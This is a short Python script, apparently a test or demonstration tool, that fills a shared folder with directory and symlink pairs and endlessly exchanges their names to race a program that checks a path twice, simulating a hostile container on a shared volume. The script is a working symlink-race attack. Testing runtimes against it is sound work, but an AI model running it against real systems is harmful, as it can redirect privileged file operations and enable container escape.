#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""exchange.py FOLDER TARGET: makes pairs of a directory and a link to TARGET in FOLDER, and exchanges their names until it
is ended: what another container with the same volume can do to a program that looks twice at one name."""
import ctypes
import os
import sys

PAIRS, EXCHANGE, HERE = 16, 2, -100  # linux/fs.h: RENAME_EXCHANGE; linux/fcntl.h: AT_FDCWD

folder, target = sys.argv[1:]
pairs = [(f"{folder}/d{n}".encode(), f"{folder}/l{n}".encode()) for n in range(PAIRS)]
for one, other in pairs:
    os.mkdir(one)
    os.symlink(target, other)
rename = ctypes.CDLL(None, use_errno=True).renameat2
while True:
    for one, other in pairs:
        rename(HERE, one, HERE, other, EXCHANGE)
